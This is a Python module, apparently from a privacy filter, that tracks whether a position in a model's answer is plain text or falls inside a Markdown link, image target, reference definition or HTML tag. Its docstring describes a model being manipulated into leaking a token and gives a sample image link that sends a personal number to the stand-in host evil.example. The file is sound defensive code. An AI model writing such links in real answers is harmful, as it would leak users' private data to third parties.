r"""Where in an answer a value may be put: plain text only (값을 되돌려도 되는 자리).

A model can be talked into writing somebody's token into an address that a browser then fetches, so that the value would
leave by itself: ![x](https://evil.example/?q=⟨주민번호1⟩). What lives here: a small automaton that reads the answer as a
Markdown and HTML renderer would, and says whether the present place is plain. It errs on the side of "not plain":

- a word that holds `//`, `\\`, `www.`, a scheme (`mailto:`, `tel:` …), or a host (a dot and a letter of any script, or four
  numbers) with a path, up to ASCII white space (other white space does not end a link in cmark-gfm);
- Markdown link and image targets `](…)`, with angle brackets, escapes and nested parentheses, up to a blank line;
- Markdown reference definitions `[x]: …`;
- everything inside an HTML tag, quoted values with `>` in them too, and inside <script> and <style>.

What comes before a place is read by `Place`; what follows, by `goes_on`: a value followed by `.evil.example` or `@` would
be the beginning of an address itself.

Any way to cut the answer into pieces gives the same places. What does not live here: tokens (`privacy/stream.py`).
"""

import re
from enum import Enum, auto
from typing import Final

_SCHEMES: Final = frozenset(
    {
        "http", "https", "ftp", "ftps", "sftp", "mailto", "data", "javascript", "vbscript", "file", "blob", "ws", "wss",
        "xmpp", "tel", "sms", "smsto", "mms", "callto", "sip", "sips", "skype", "facetime", "intent", "market", "geo",
        "irc", "ldap", "smb", "ssh", "magnet", "urn",
    }
)  # fmt: skip
#: Runs of characters that change nothing but what came last, or one character that may.
_piece = re.compile(r"""[^\x00-\x40\[-`{-\x7f。．｡]+|[0-9-]+|.""", re.DOTALL)
#: What a browser takes for the dot of a host (UTS 46 §4).
_WIDE_DOTS: Final = frozenset("。．｡")
_DOTS: Final = _WIDE_DOTS | {"."}
_NUMBER: Final = frozenset("0123456789-")
_QUAD: Final = 3  # dots in an address of numbers
_other_blank = re.compile(r"[\t\n\r\f\v]").finditer
_ENDS_WORD: Final = frozenset(" \t\n\r\f\v")
_ASCII: Final = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"
_LETTERS: Final = frozenset(_ASCII)
_OPENS_TAG: Final = _LETTERS | frozenset("/!?")
_MARGIN: Final = frozenset(" \t>*+-0123456789.)")
_MARGIN_OR_BLANK: Final = "".join(_MARGIN | _ENDS_WORD)
_brackets = re.compile(r"[<\[\]]")
_RAW: Final = frozenset({"script", "style"})


def goes_on(text: str, at: int) -> bool | None:
    """Whether what stands before `at`, the end of a run of letters and digits, goes on as a host or a mail address.

    None: the text must go on before that can be told. A wide dot followed by a letter of another script is the full stop
    of a Chinese or Japanese sentence.
    """
    if at == len(text):
        return None
    if text[at] == "@":
        return True
    if text[at] not in _DOTS:
        return False
    if at + 1 == len(text):
        return None
    after = text[at + 1]
    if text[at] in _WIDE_DOTS:
        return after.isascii() and after.isalnum()
    return after.isalnum() or after in "_⟨"


class _Mode(Enum):
    TEXT = auto()
    TARGET = auto()
    DEFINITION = auto()
    TAG = auto()
    RAW = auto()


class Place:
    """Feed it the answer; `plain` says whether a value may stand at the present place."""

    __slots__ = (
        "_angle",
        "_blank",
        "_deep",
        "_domain",
        "_dots",
        "_escaped",
        "_label",
        "_last",
        "_letters",
        "_link",
        "_margin",
        "_mode",
        "_name",
        "_quote",
        "_raw",
        "_reference",
        "_solid",
        "_started",
    )

    def __init__(self) -> None:
        self._mode = _Mode.TEXT
        self._last = "\n"  # the character before
        self._solid = ""  # the last character that was no white space
        self._new_word()
        self._margin = True  # only list marks, quotes and blanks so far on this line
        self._reference = False  # the line began with "["
        self._label = False  # … and no "]" has come since
        self._blank = False  # nothing but blanks since the last line break
        self._deep = 0  # open parentheses of a target
        self._angle = False
        self._escaped = False
        self._started = False  # the target or definition has begun
        self._quote = ""
        self._name = ""
        self._raw = ""

    def _new_word(self) -> None:
        self._link = False
        self._letters = ""  # the run of ASCII letters that ends here, at most eleven of them
        self._dots = 0  # dots after a letter, a digit or a token
        self._domain = False  # … and a letter after one of them, or a digit after the third

    @property
    def plain(self) -> bool:
        return self._mode is _Mode.TEXT and not self._link

    def read(self, text: str) -> None:
        if (
            self._mode is _Mode.TEXT
            and not self._reference
            and self._last not in {"<", "]"}
            and not _brackets.search(text)
        ):
            self._prose(text)
            return
        for m in _piece.finditer(text):
            piece = m[0]
            mode = self._mode
            if mode is _Mode.TEXT:
                self._text(piece)
            elif mode is _Mode.TARGET:
                self._target(piece)
            elif mode is _Mode.DEFINITION:
                self._definition(piece)
            elif mode is _Mode.TAG:
                self._tag(piece)
            else:
                self._script(piece)
            self._last = piece[-1]
            if self._last not in _ENDS_WORD:
                self._solid = self._last

    def _prose(self, text: str) -> None:
        """Text without a bracket changes nothing but the line and the word: only its last word is read."""
        line = max(text.rfind("\n"), text.rfind("\r"))
        if line >= 0:
            self._new_line()
        if self._margin:
            self._margin = not text[line + 1 :].strip(_MARGIN_OR_BLANK)
        blank = text.rfind(" ")
        for m in _other_blank(text, blank + 1):
            blank = m.start()
        if blank >= 0:
            self._new_word()
            self._last = text[blank]
        for m in _piece.finditer(text, blank + 1):
            self._word(m[0], self._last)
            self._last = m[0][-1]

    def _text(self, c: str) -> None:
        last = self._last
        if c in _ENDS_WORD:
            self._new_word()
            if c in "\n\r":
                self._new_line()
        elif last == "<" and c[0] in _OPENS_TAG:
            self._open_tag(c)
        elif last == "]" and c == "(":
            self._mode = _Mode.TARGET
            self._deep, self._angle, self._escaped, self._started, self._blank = 1, False, False, False, False
            self._quote = ""
        elif last == "]" and c == ":" and self._reference:
            self._mode = _Mode.DEFINITION
            self._started = False
        else:
            if self._margin and c[0] not in _MARGIN:
                self._margin = False
                # A label may run over a line's end, so one that is still open stays a label.
                self._reference = self._reference or c == "["
            self._label = (self._label or c == "[") and c != "]"
            self._word(c, last)

    def _new_line(self) -> None:
        self._reference = self._reference and self._label and not self._margin
        self._margin = True

    def _word(self, c: str, last: str) -> None:
        """Whether the word has become a link."""
        if c[0] in _NUMBER:
            self._domain = self._domain or (self._dots >= _QUAD and c.strip("-") != "")
            self._letters = ""
            return
        if len(c) > 1 or c.isalpha():
            rest = c.rstrip(_ASCII)
            self._letters = (c[len(rest) :] if rest else self._letters + c)[-11:]
            self._domain = self._domain or (self._dots > 0 and any(x.isalpha() for x in c))
            return
        if c == "/":
            self._link = self._link or last == "/" or self._domain
        elif c in "?#":
            self._link = self._link or self._domain
        elif c == ":":
            self._link = self._link or self._letters.lower() in _SCHEMES
        elif c == "\\":
            self._link = self._link or last == "\\"
        elif c in _DOTS:
            self._link = self._link or self._letters.lower().endswith("www")
            self._dots += last.isalnum() or last == "⟩"
        self._letters = ""

    def _target(self, c: str) -> None:
        if c == "\n":
            if self._blank:
                self._leave()
                self._new_line()
                return
            self._blank, self._angle = True, False
        elif c not in _ENDS_WORD:
            self._blank = False
        if self._escaped or c == "\\":
            self._escaped = not self._escaped
        elif self._angle:
            self._angle = c != ">"
        elif self._quote:
            self._quote = "" if c == self._quote else self._quote
        elif c in {'"', "'"} and self._last in _ENDS_WORD and self._started:
            self._quote = c  # a title: a parenthesis in it does not close the target
        elif c == "<" and not self._started:
            self._angle = True
        elif c == "(":
            self._deep += 1
        elif c == ")":
            self._deep -= 1
            if not self._deep:
                self._leave()
        self._started = self._started or c not in _ENDS_WORD

    def _definition(self, c: str) -> None:
        if c in "\n\r" and self._started:
            self._leave()
            self._new_line()
        self._started = self._started or c not in _ENDS_WORD

    def _open_tag(self, c: str) -> None:
        self._mode = _Mode.TAG
        self._name, self._quote = c[:16], ""

    def _tag(self, c: str) -> None:
        if self._quote:
            if c == self._quote:
                self._quote = ""
        elif c in {'"', "'"} and self._solid == "=":
            self._quote = c
        elif c == ">":
            self._close_tag()
        elif self._name and c not in _ENDS_WORD and self._last not in _ENDS_WORD and len(self._name) < 16:
            self._name += c
        elif self._name and c in _ENDS_WORD:
            self._name += " "

    def _close_tag(self) -> None:
        name = self._name.split(" ", 1)[0].rstrip("/").lower()
        if self._raw and name != "/" + self._raw:
            self._mode = _Mode.RAW
        elif name in _RAW:
            self._mode, self._raw = _Mode.RAW, name
        else:
            self._raw = ""
            self._leave()

    def _script(self, c: str) -> None:
        if self._last == "<" and c[0] == "/":
            self._open_tag(c)

    def _leave(self) -> None:
        self._mode = _Mode.TEXT
        self._new_word()
